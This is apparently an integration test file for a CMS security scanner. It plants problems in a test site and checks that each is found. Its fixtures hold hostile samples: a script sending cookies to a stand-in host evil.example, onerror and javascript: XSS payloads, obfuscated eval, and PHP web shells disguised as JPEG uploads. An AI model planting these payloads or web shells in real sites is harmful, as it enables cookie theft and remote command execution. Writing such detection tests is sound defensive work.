/**
 * The security scanner (src/domain/security/scan) through a real server: a clean demo site has no
 * finding; every planted problem (script in a post, onerror in an excerpt, a javascript: menu item,
 * an iframe in a term description, obfuscated eval in a setting, a redirect to a blocked host, a
 * PHP file named .jpg, an HTML file named .png, a dormant administrator, an unused application
 * password, open registration as editor) is found with the record it concerns; ignored findings
 * stay ignored; gone problems become fixed; one scan at a time across two instances; stop; a
 * restarted server resumes an interrupted scan and keeps the findings. Driven through GraphQL (the
 * administrators' face) and the security/v1 routes' token check.
 */
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { mediaStorage } from '../../src/domain/media/storage-config';
import { recordFinding } from '../../src/domain/security/scan/findings';
import { effectiveBlockedHosts, parseScanOptions } from '../../src/domain/security/scan/options';
import { scanRunnerFor } from '../../src/domain/security/scan/runner';
import { checkpoint, claimNewScan, finishScan, LEASE_MS, readState } from '../../src/domain/security/scan/state';
import { SCAN_STEPS } from '../../src/domain/security/scan/steps';
import { writeOptions } from '../../src/domain/settings/options';
import { startTestApp, userAuth, type TestApp } from '../support/app';
import { centralAuthorization } from '../support/central';
import { testProvider } from '../support/database';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const FINDING = 'id databaseId type severity severityScore status shortDescription longDescription record { kind id } data firstFound lastUpdated';
const STATUS = 'running stopRequested scanId step steps progress currentStep lastScanTime lastResult lastError effectiveBlockedHosts options { blockedHosts inactiveAdminDays unusedApplicationPasswordDays }';
const DAY = 86_400_000;

describe('security scan', () => {
  let t: TestApp;
  let editorAuth: string;

  const gql = async (query: string, variables: Json = {}, auth = t.adminAuth, app = t): Promise<Json> => {
    const res = await app.request.post('/graphql').set('Authorization', auth).send({ query, variables }).expect(200);
    return res.body as Json;
  };
  const data = async (query: string, variables: Json = {}, app = t): Promise<Json> => {
    const body = await gql(query, variables, app.adminAuth, app);
    if (body.errors) throw new Error(JSON.stringify(body.errors));
    return body.data as Json;
  };
  const status = async (app = t) => (await data(`{ securityScan { ${STATUS} } }`, {}, app)).securityScan as Json;
  const allFindings = async (where: Json = {}): Promise<Json[]> =>
    (await data(`query($where: RootQueryToSecurityFindingConnectionWhereArgs) { securityFindings(first: 100, where: $where) { nodes { ${FINDING} } } }`, { where })).securityFindings.nodes;
  /** Starts a scan through GraphQL and waits for this instance's runner to finish it. */
  const scan = async (app = t) => {
    const started = (await data('mutation { startSecurityScan(input: {}) { started securityScan { running } } }', {}, app)).startSecurityScan;
    expect(started.started).toBe(true);
    await scanRunnerFor(app.db, app.config).whenIdle();
    const after = await status(app);
    expect(after).toMatchObject({ running: false, lastResult: 'complete', progress: 100 });
    return after;
  };
  const mark = (id: number, value: string) => data('mutation($id: Int!, $status: SecurityFindingStatusEnum!) { updateSecurityFinding(input: {id: $id, status: $status}) { finding { databaseId status } } }', { id, status: value });
  const find = (list: Json[], type: string, kind: string, id: number | string, extra: (f: Json) => boolean = () => true) =>
    list.filter((f) => f.type === type && f.record.kind === kind && f.record.id === String(id) && f.status === 'NEW' && extra(JSON.parse(f.data as string)));

  const rest = (method: 'get' | 'post', route: string, body: Json = {}) =>
    (method === 'get' ? t.request.get(`/wp-json${route}`) : t.request.post(`/wp-json${route}`).send(body)).set('Authorization', t.adminAuth);

  /** An attachment whose file was put in the storage directly (as a file that got past the upload checks would be). */
  const plantUpload = async (key: string, bytes: Buffer, mimeType: string) => {
    await mediaStorage(t.config).put(key, Readable.from([bytes]), { contentType: mimeType });
    const now = new Date();
    const row = await t.db.prisma.content.create({ data: { type: 'attachment', status: 'inherit', title: key, mimeType, date: now, modified: now, guid: `https://example.test/wp-content/uploads/${key}` } });
    await t.db.prisma.contentMeta.create({ data: { contentId: row.id, key: '_wp_attached_file', value: key } });
    return row.id;
  };

  beforeAll(async () => {
    t = await startTestApp({ SECURITY_SCAN_BLOCKED_HOSTS: 'evil.example' }, { seed: true });
    editorAuth = await userAuth(t, 'scan-editor', 'editor');
  });
  afterAll(async () => {
    await t.close();
  });

  it('finds nothing on the clean demo site, a genuine upload included', async () => {
    const png = await sharp({ create: { width: 20, height: 20, channels: 3, background: { r: 0, g: 128, b: 0 } } }).png().toBuffer();
    await t.request.post('/wp-json/core/v2/media').set('Authorization', t.adminAuth).set('Content-Type', 'image/png').set('Content-Disposition', 'attachment; filename="clean.png"').send(png).expect(201);
    const before = await status();
    expect(before).toMatchObject({ running: false, lastScanTime: null, lastResult: null, effectiveBlockedHosts: ['evil.example'] });
    const after = await scan();
    expect(after.lastScanTime).toEqual(expect.any(String));
    expect(after.steps).toBe(SCAN_STEPS.length);
    expect(await allFindings()).toEqual([]);
  });

  describe('with planted problems', () => {
    const planted: Json = {};

    beforeAll(async () => {
      const post = await rest('post', '/core/v2/posts', { title: 'Scripted', content: '<p>Hello</p><script>document.location="https://evil.example/?c="+document.cookie</script>', status: 'publish' }).expect(201);
      planted.scriptPost = post.body.id;
      const excerpt = await rest('post', '/core/v2/posts', { title: 'Excerpted', content: '<p>Fine</p>', excerpt: '<img src=x oNeRrOr = "alert(1)">', status: 'publish' }).expect(201);
      planted.excerptPost = excerpt.body.id;
      const menu = await rest('post', '/core/v2/menus', { name: 'Scan menu' }).expect(201);
      const item = await rest('post', '/core/v2/menu-items', { title: 'Click me', url: 'https://example.org/', menus: menu.body.id, status: 'publish' }).expect(201);
      // A javascript: address cannot be saved through REST (esc_url_raw drops it): it got in another way.
      await t.db.prisma.menuItemDetail.update({ where: { contentId: item.body.id }, data: { url: ' JaVaScRiPt:alert(document.cookie)' } });
      planted.menuItem = item.body.id;
      const term = await rest('post', '/core/v2/categories', { name: 'Framed' }).expect(201);
      await t.db.prisma.term.update({ where: { id: term.body.id }, data: { description: 'Nice <iframe src="https://ads.example/x" width="1" height="1"></iframe>' } });
      planted.term = term.body.id;
      await t.db.prisma.option.create({ data: { name: 'footer_snippet', value: JSON.stringify({ html: 'Thanks', code: "eval(atob('YWxlcnQoMSk='))" }) } });
      const redirect = await rest('post', '/redirects/v1/redirect', { url: '/promo', group_id: 1, match_type: 'url', action_type: 'url', action_code: 301, action_data: { url: 'https://www.evil.example/landing' } }).expect(200);
      planted.redirect = (await t.db.prisma.redirect.findFirstOrThrow({ where: { url: '/promo' } })).id;
      expect(redirect.body).toBeDefined();
      planted.php = await plantUpload('2026/11/shell.jpg', Buffer.from('<?php system($_GET["c"]); ?>\n'), 'image/jpeg');
      planted.html = await plantUpload('2026/11/page.png', Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'), 'image/png');
      const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: { r: 9, g: 9, b: 9 } } }).jpeg().toBuffer();
      planted.polyglot = await plantUpload('2026/11/polyglot.jpg', Buffer.concat([jpeg, Buffer.from('<?php eval($_POST["x"]); ?>')]), 'image/jpeg');
      const dormant = await rest('post', '/core/v2/users', { username: 'dormant', email: 'dormant@example.com', password: 'secret-1', roles: ['administrator'] }).expect(201);
      await t.db.prisma.user.update({ where: { id: dormant.body.id }, data: { registeredAt: new Date(Date.now() - 200 * DAY) } });
      planted.dormant = dormant.body.id;
      const reader = await rest('post', '/core/v2/users', { username: 'reader', email: 'reader@example.com', password: 'secret-1', roles: ['subscriber'] }).expect(201);
      const password = await rest('post', `/core/v2/users/${reader.body.id}/application-passwords`, { name: 'forgotten' }).expect(201);
      await t.db.prisma.applicationPassword.update({ where: { uuid: password.body.uuid }, data: { createdAt: new Date(Date.now() - 60 * DAY) } });
      planted.appPassword = password.body.uuid;
      await writeOptions(t.db, { users_can_register: true, default_role: 'editor' });
      await scan();
    });

    it('finds every planted problem, with the record it concerns', async () => {
      const list = await allFindings();
      const expectOne = (type: string, kind: string, id: number | string, extra?: (f: Json) => boolean) => {
        const found = find(list, type, kind, id, extra);
        if (found.length === 0) throw new Error(`no ${type} finding for ${kind} ${id} in ${JSON.stringify(list.map((f) => [f.type, f.record, f.data]))}`);
        return found[0]!;
      };
      expect(expectOne('INJECTION', 'post', planted.scriptPost, (d) => d.field === 'content' && d.injection === 'script')).toMatchObject({ severity: 'HIGH', severityScore: 75 });
      expectOne('INJECTION', 'post', planted.excerptPost, (d) => d.field === 'excerpt' && d.injection === 'event-handler' && d.detail === 'onerror');
      expectOne('INJECTION', 'menu_item', planted.menuItem, (d) => d.field === 'url' && d.injection === 'javascript-url');
      expectOne('INJECTION', 'term', planted.term, (d) => d.field === 'description' && d.injection === 'iframe');
      expect(expectOne('INJECTION', 'option', 'footer_snippet', (d) => d.injection === 'obfuscated' && d.field === 'value.code')).toMatchObject({ severity: 'CRITICAL' });
      expectOne('BLOCKED_HOST', 'redirect', planted.redirect, (d) => d.host === 'evil.example' && d.url === 'https://www.evil.example/landing');
      // The script post's payload sends visitors to the blocked host too, but only as script text: no link.
      expect(find(list, 'BLOCKED_HOST', 'post', planted.scriptPost)).toEqual([]);
      expectOne('UPLOAD_TYPE_MISMATCH', 'attachment', planted.php);
      expectOne('UPLOAD_EXECUTABLE_CODE', 'attachment', planted.php, (d) => d.code === 'PHP code');
      expectOne('UPLOAD_TYPE_MISMATCH', 'attachment', planted.html);
      expectOne('UPLOAD_EXECUTABLE_CODE', 'attachment', planted.html, (d) => d.code === 'HTML or script markup');
      // A real JPEG carrying PHP: the type is right, the code is not.
      expect(find(list, 'UPLOAD_TYPE_MISMATCH', 'attachment', planted.polyglot)).toEqual([]);
      expect(expectOne('UPLOAD_EXECUTABLE_CODE', 'attachment', planted.polyglot)).toMatchObject({ severity: 'CRITICAL' });
      expectOne('INACTIVE_ADMIN', 'user', planted.dormant);
      expectOne('UNUSED_APPLICATION_PASSWORD', 'application_password', planted.appPassword);
      expect(expectOne('WEAK_SETTING', 'option', 'default_role', (d) => d.default_role === 'editor')).toMatchObject({ severity: 'HIGH' });
      // Nothing else: the demo content, the genuine upload and the active administrator are clean.
      expect(list).toHaveLength(14);
    });

    it('filters findings by status, severity and type, and pages them in order', async () => {
      const critical = await allFindings({ severity: ['CRITICAL'] });
      expect(critical.map((f) => f.type).sort()).toEqual(['INJECTION', 'UPLOAD_EXECUTABLE_CODE', 'UPLOAD_EXECUTABLE_CODE', 'UPLOAD_EXECUTABLE_CODE']);
      expect((await allFindings({ type: ['WEAK_SETTING', 'INACTIVE_ADMIN'] })).map((f) => f.type).sort()).toEqual(['INACTIVE_ADMIN', 'WEAK_SETTING']);
      const all = await allFindings();
      const scores = all.map((f) => f.severityScore as number);
      expect(scores).toEqual([...scores].sort((a, b) => b - a));
      const first = (await data(`{ securityFindings(first: 5) { nodes { databaseId } pageInfo { hasNextPage endCursor } } }`)).securityFindings;
      expect(first.pageInfo.hasNextPage).toBe(true);
      const next = (await data(`query($after: String) { securityFindings(first: 5, after: $after) { nodes { databaseId } } }`, { after: first.pageInfo.endCursor })).securityFindings;
      expect([...first.nodes, ...next.nodes].map((n: Json) => n.databaseId)).toEqual(all.slice(0, 10).map((f) => f.databaseId));
    });

    it('keeps ignored findings ignored, brings back ignore-until-changed ones when the value changes, and fixes what is gone', async () => {
      const list = await allFindings();
      const script = find(list, 'INJECTION', 'post', planted.scriptPost)[0]!;
      const term = find(list, 'INJECTION', 'term', planted.term)[0]!;
      const excerpt = find(list, 'INJECTION', 'post', planted.excerptPost)[0]!;
      await mark(script.databaseId, 'IGNORED');
      await mark(term.databaseId, 'IGNORED_UNTIL_CHANGED');
      await scan();
      let after = await allFindings();
      const byId = (id: number) => after.find((f) => f.databaseId === id)!;
      expect(byId(script.databaseId).status).toBe('IGNORED');
      expect(byId(term.databaseId).status).toBe('IGNORED_UNTIL_CHANGED');
      expect(await allFindings({ status: ['NEW'] })).toHaveLength(12);
      // The term's description changes (still framed): the finding is new again. The excerpt is cleaned: fixed.
      await t.db.prisma.term.update({ where: { id: planted.term }, data: { description: 'Still <iframe src="https://ads.example/y"></iframe>' } });
      await t.db.prisma.content.update({ where: { id: planted.excerptPost }, data: { excerpt: 'Plain words.' } });
      await scan();
      after = await allFindings();
      expect(byId(script.databaseId).status).toBe('IGNORED');
      expect(byId(term.databaseId).status).toBe('NEW');
      expect(byId(excerpt.databaseId).status).toBe('FIXED');
    });

    it('answers the findings to administrators only', async () => {
      const seen = await gql(`{ securityScan { running } securityFindings(first: 5) { nodes { databaseId } } }`, {}, editorAuth);
      expect(seen.data).toEqual({ securityScan: null, securityFindings: { nodes: [] } });
      const refused = await gql('mutation { startSecurityScan(input: {}) { started } }', {}, editorAuth);
      expect(refused.errors[0].extensions).toMatchObject({ code: 'rest_forbidden', status: 403 });
      const unknown = await gql('mutation { updateSecurityFinding(input: {id: 999999, status: FIXED}) { finding { databaseId } } }');
      expect(unknown.errors[0]).toMatchObject({ message: 'Issue not found.' });
    });
  });

  it('stores the scan options, validated, and scans with them', async () => {
    const bad = await gql('mutation { updateSecurityScanOptions(input: {blockedHosts: ["bad host!"], inactiveAdminDays: 0}) { securityScan { scanId } } }');
    expect(bad.errors[0].extensions).toMatchObject({ code: 'rest_invalid_param', status: 400 });
    expect(Object.keys(bad.errors[0].extensions.data.params).sort()).toEqual(['blockedHosts', 'inactiveAdminDays']);
    const changed = (await data('mutation { updateSecurityScanOptions(input: {blockedHosts: ["Ads.Example."], unusedApplicationPasswordDays: 90}) { securityScan { effectiveBlockedHosts options { blockedHosts inactiveAdminDays unusedApplicationPasswordDays } } } }')).updateSecurityScanOptions.securityScan;
    expect(changed).toEqual({ effectiveBlockedHosts: ['evil.example', 'ads.example'], options: { blockedHosts: ['ads.example'], inactiveAdminDays: 90, unusedApplicationPasswordDays: 90 } });
    await scan();
    const list = await allFindings({ status: ['NEW'] });
    expect(list.filter((f) => f.type === 'BLOCKED_HOST' && f.record.kind === 'term')).toHaveLength(1);
    // The 60-day-old unused password is within the new 90 days: fixed.
    expect(list.filter((f) => f.type === 'UNUSED_APPLICATION_PASSWORD')).toEqual([]);
  });

  describe('across instances', () => {
    let other: TestApp;
    beforeAll(async () => {
      other = await startTestApp({ MEDIA_DIR: t.config.media.dir }, { sharedWith: t });
    });
    afterAll(async () => {
      await other.close();
    });
    /** Every instance's runner has nothing under way (any of them may take over a scan whose lease lapsed). */
    const idle = async () => {
      await scanRunnerFor(t.db, t.config).whenIdle();
      await scanRunnerFor(other.db, other.config).whenIdle();
    };

    it('runs one scan at a time: a live lease elsewhere refuses a new scan, and racing claims have one winner', async () => {
      const scanId = await claimNewScan(t.db.prisma, 'instance-one', SCAN_STEPS.length);
      expect(scanId).toEqual(expect.any(Number));
      const refused = (await data('mutation { startSecurityScan(input: {}) { started securityScan { running scanId } } }', {}, other)).startSecurityScan;
      expect(refused).toEqual({ started: false, securityScan: { running: true, scanId } });
      expect(await finishScan(t.db.prisma, 'instance-one', 'stopped')).toBe(true);
      // Racing claims through both instances' clients. (On SQLite the two clients of this one test
      // process would block each other's event loop on the file lock — separate processes wait —
      // so there the race runs through one client: the database serialises the UPDATEs alike.)
      const racers = testProvider === 'postgresql' ? [t, other] : [t];
      const owners = Array.from({ length: 8 }, (_, i) => `racer-${i}`);
      const claims = await Promise.all(owners.map((owner, i) => claimNewScan(racers[i % racers.length]!.db.prisma, owner, SCAN_STEPS.length)));
      const winners = claims.filter((claim) => claim !== null);
      expect(winners).toEqual([scanId! + 1]);
      const state = await readState(t.db.prisma);
      expect(await finishScan(t.db.prisma, state.leaseOwner, 'stopped')).toBe(true);
    });

    it('stops a scan on request before its next step, and stops at once a scan nobody runs', async () => {
      // A scan whose runner is alive elsewhere: the stop is recorded for it.
      await claimNewScan(t.db.prisma, 'elsewhere', SCAN_STEPS.length);
      const asked = (await data(`mutation { stopSecurityScan(input: {}) { wasRunning securityScan { running stopRequested } } }`, {}, other)).stopSecurityScan;
      expect(asked).toEqual({ wasRunning: true, securityScan: { running: true, stopRequested: true } });
      // Its runner dies; this instance takes the scan over and honours the stop before any step.
      await t.db.prisma.securityScanState.update({ where: { id: 1 }, data: { leaseExpiresAt: new Date(Date.now() - LEASE_MS) } });
      const findingsBefore = await t.db.prisma.securityFinding.count();
      const stopsBefore = await t.db.prisma.securityLogEntry.count({ where: { type: 'scan-stop' } });
      await scanRunnerFor(t.db, t.config).resumeAbandoned();
      await idle();
      expect(await status()).toMatchObject({ running: false, stopRequested: false, lastResult: 'stopped', step: 0 });
      expect(await t.db.prisma.securityLogEntry.count({ where: { type: 'scan-stop' } })).toBe(stopsBefore + 1);
      expect(await t.db.prisma.securityFinding.count()).toBe(findingsBefore);
      // A scan whose runner died without anybody to take it over is stopped by the request itself.
      await claimNewScan(t.db.prisma, 'crashed', SCAN_STEPS.length);
      await t.db.prisma.securityScanState.update({ where: { id: 1 }, data: { leaseExpiresAt: new Date(Date.now() - LEASE_MS) } });
      const stops = await t.db.prisma.securityLogEntry.count({ where: { type: 'scan-stop' } });
      expect((await data(`mutation { stopSecurityScan(input: {}) { wasRunning securityScan { running lastResult } } }`)).stopSecurityScan).toEqual({ wasRunning: true, securityScan: { running: false, lastResult: 'stopped' } });
      expect(await t.db.prisma.securityLogEntry.count({ where: { type: 'scan-stop' } })).toBe(stops + 1);
      // Nothing running: a stop changes nothing.
      expect((await data(`mutation { stopSecurityScan(input: {}) { wasRunning } }`)).stopSecurityScan).toEqual({ wasRunning: false });
    });

    it('resumes an interrupted scan on the next server start, keeping what it had found', async () => {
      // A scan runs its first two steps, then its server dies (the lease lapses).
      const owner = 'dies-after-two-steps';
      const scanId = (await claimNewScan(t.db.prisma, owner, SCAN_STEPS.length))!;
      const state = await readState(t.db.prisma);
      const options = parseScanOptions(state.options);
      const input = { prisma: t.db.prisma, config: t.config, storage: mediaStorage(t.config), options, blockedHosts: effectiveBlockedHosts(options, t.config), now: new Date() };
      for (let step = 0; step < 2; step++) {
        expect(await checkpoint(t.db.prisma, owner, step)).toBe('go');
        for (const draft of await SCAN_STEPS[step]!.run(input)) await recordFinding(t.db.prisma, scanId, draft);
      }
      expect(await checkpoint(t.db.prisma, owner, 2)).toBe('go');
      await t.db.prisma.securityScanState.update({ where: { id: 1 }, data: { leaseExpiresAt: new Date(Date.now() - 1) } });
      const before = await allFindings();
      // A server starting on the database resumes it at step 3 and runs it to its end.
      const restarted = await startTestApp({ SECURITY_SCAN_BLOCKED_HOSTS: 'evil.example', MEDIA_DIR: t.config.media.dir }, { sharedWith: t });
      try {
        await scanRunnerFor(restarted.db, restarted.config).whenIdle();
        await idle();
        const after = await status(restarted);
        expect(after).toMatchObject({ running: false, lastResult: 'complete', scanId });
        // The content findings of the steps done before the crash are still new, not taken for fixed.
        const list = await allFindings();
        const statusOf = (id: number) => list.find((f) => f.databaseId === id)?.status;
        for (const finding of before) expect([finding.databaseId, statusOf(finding.databaseId)]).toEqual([finding.databaseId, finding.status]);
        expect(list.some((f) => f.record.kind === 'option' && f.record.id === 'footer_snippet' && f.status === 'NEW')).toBe(true);
      } finally {
        await restarted.close();
      }
    });
  });

  describe('security/v1 scan routes', () => {
    const ROOT = '/wp-json/security/v1';
    let bearer: string;
    beforeAll(async () => {
      bearer = await centralAuthorization(t);
    });
    const call = (method: 'get' | 'post' | 'put' | 'patch' | 'delete', route: string, body?: Json) => {
      const req = t.request[method](`${ROOT}${route}`).set('Authorization', bearer);
      return body === undefined ? req : req.send(body);
    };

    it('keeps every scan route behind the dashboard token', async () => {
      for (const [method, route] of [['post', '/scan'], ['delete', '/scan'], ['get', '/scan/issues'], ['post', '/scan/issue'], ['put', '/scan/issue'], ['patch', '/scan/issue']] as const) {
        const anonymous = await t.request[method](`${ROOT}${route}`).expect(401);
        expect(anonymous.body).toMatchObject({ code: 'rest_forbidden_context', data: { status: 401 } });
        const signedIn = await t.request[method](`${ROOT}${route}`).set('Authorization', t.adminAuth).expect(403);
        expect(signedIn.body).toMatchObject({ code: 'rest_forbidden_context', data: { status: 403 } });
        const forged = await t.request[method](`${ROOT}${route}`).set('Authorization', 'Bearer not-a-token').expect(401);
        expect(forged.body.code).toBe('rest_forbidden_context');
      }
    });

    it('starts a scan, refuses a second one while it runs, and records the scan in the security log', async () => {
      const logged = await t.db.prisma.securityLogEntry.count({ where: { type: { in: ['scan-start', 'scan-complete'] } } });
      expect((await call('post', '/scan').expect(200)).body).toEqual({ success: true });
      await scanRunnerFor(t.db, t.config).whenIdle();
      expect(await status()).toMatchObject({ running: false, lastResult: 'complete' });
      expect(await t.db.prisma.securityLogEntry.count({ where: { type: { in: ['scan-start', 'scan-complete'] } } })).toBe(logged + 2);
      // Each new finding was logged once, when it was first found.
      const findingEvents = await t.db.prisma.securityLogEntry.findMany({ where: { type: 'scan-finding' } });
      expect(findingEvents.length).toBeGreaterThanOrEqual(14);
      expect(JSON.parse(findingEvents[0]!.details)).toMatchObject({ findingId: expect.any(Number), type: expect.any(String), severity: expect.any(String), recordKind: expect.any(String) });
      await claimNewScan(t.db.prisma, 'another-instance', SCAN_STEPS.length);
      expect((await call('post', '/scan').expect(200)).body).toEqual({ success: false, 'error-code': 'scan_running', error: 'A scan is already running.' });
      expect((await call('delete', '/scan').expect(200)).body).toEqual({ success: true });
      expect((await readState(t.db.prisma)).stopRequested).toBe(true);
      expect(await finishScan(t.db.prisma, 'another-instance', 'stopped')).toBe(true);
      // Nothing running: DELETE still answers success, as the plugin does.
      expect((await call('delete', '/scan').expect(200)).body).toEqual({ success: true });
    });

    it('lists findings as wfIssues does: new and ignored, or pending alone, with offset and limit', async () => {
      const all = (await call('get', '/scan/issues').expect(200)).body;
      const newCount = await t.db.prisma.securityFinding.count({ where: { status: 'new' } });
      expect(all.count).toBe(newCount);
      expect(all['last-scan-time']).toBe(Math.floor(new Date((await status()).lastScanTime).getTime() / 1000));
      expect(all.issues.new).toHaveLength(newCount);
      expect(all.issues.ignored.length).toBeGreaterThan(0);
      const first = all.issues.new[0];
      expect(first).toEqual({
        id: expect.any(Number), time: expect.any(Number), lastUpdated: expect.any(Number), status: 'new', type: expect.any(String),
        severity: 100, ignoreP: expect.stringMatching(/^[0-9a-f]{64}$/), ignoreC: expect.stringMatching(/^[0-9a-f]{64}$/),
        shortMsg: expect.any(String), longMsg: expect.any(String), data: expect.objectContaining({ recordKind: expect.any(String), recordId: expect.any(String) }), issueIDX: 0,
      });
      const severities = all.issues.new.map((issue: Json) => issue.severity as number);
      expect(severities).toEqual([...severities].sort((a, b) => b - a));
      const pending = (await call('get', '/scan/issues?group=pending&offset=1&limit=2').expect(200)).body;
      expect(pending.count).toBe(newCount);
      expect(pending.issues.map((issue: Json) => issue.id)).toEqual(all.issues.new.slice(1, 3).map((issue: Json) => issue.id));
      // absint(): a negative or odd limit reads as PHP reads it; 0 means the default 100.
      expect((await call('get', '/scan/issues?group=pending&limit=-1').expect(200)).body.issues).toHaveLength(1);
      expect((await call('get', '/scan/issues?group=pending&limit=abc').expect(200)).body.issues).toHaveLength(newCount);
    });

    it('never lets the response cache keep a findings list (a token in X-Authorization looks anonymous to it)', async () => {
      const cached = await startTestApp({ CACHE_ENABLED: 'true', MEDIA_DIR: t.config.media.dir }, { sharedWith: t });
      try {
        const token = bearer;
        const answer = await cached.request.get(`${ROOT}/scan/issues`).set('X-Authorization', token).expect(200);
        expect(answer.headers['cache-control']).toMatch(/no-store/);
        const stranger = await cached.request.get(`${ROOT}/scan/issues`).expect(401);
        expect(stranger.body.code).toBe('rest_forbidden_context');
      } finally {
        await cached.close();
      }
    });

    it('marks one finding, by JSON or form body, and says when there is no such finding', async () => {
      const issues = (await call('get', '/scan/issues?group=pending').expect(200)).body.issues as Json[];
      const [one, two] = issues;
      expect((await call('post', '/scan/issue', { issue: { id: one!.id, status: 'ignoreP' } }).expect(200)).body).toEqual({ success: true });
      const form = await t.request.patch(`${ROOT}/scan/issue`).set('Authorization', bearer).type('form').send(`issue[id]=${two!.id}&issue[status]=ignoreC`).expect(200);
      expect(form.body).toEqual({ success: true });
      const after = (await call('get', '/scan/issues').expect(200)).body;
      expect(after.issues.ignored.map((issue: Json) => [issue.id, issue.status])).toEqual(expect.arrayContaining([[one!.id, 'ignoreP'], [two!.id, 'ignoreC']]));
      expect(after.count).toBe(issues.length - 2);
      expect((await call('put', '/scan/issue', { issue: { id: one!.id, status: 'new' } }).expect(200)).body).toEqual({ success: true });
      expect((await call('post', '/scan/issue', { issue: { id: 999999, status: 'fixed' } }).expect(200)).body).toEqual({ success: false, error: 'Issue not found.' });
      expect((await call('post', '/scan/issue', {}).expect(200)).body).toEqual({ success: false, error: 'Issue not found.' });
      expect((await call('post', '/scan/issue', { issue: 'nope' }).expect(200)).body).toEqual({ success: false, error: 'Issue not found.' });
      const bad = await call('post', '/scan/issue', { issue: { id: one!.id, status: 'whatever' } }).expect(400);
      expect(bad.body).toMatchObject({ code: 'rest_invalid_param', data: { status: 400, params: { issue: expect.any(String) } } });
      // A refused write changed nothing.
      expect((await t.db.prisma.securityFinding.findUniqueOrThrow({ where: { id: one!.id } })).status).toBe('new');
      // A key a client sends never reaches a prototype.
      expect((await call('post', '/scan/issue', { issue: JSON.parse('{"__proto__": {"id": 1, "status": "fixed"}}') }).expect(200)).body).toEqual({ success: false, error: 'Issue not found.' });
    });
  });
});
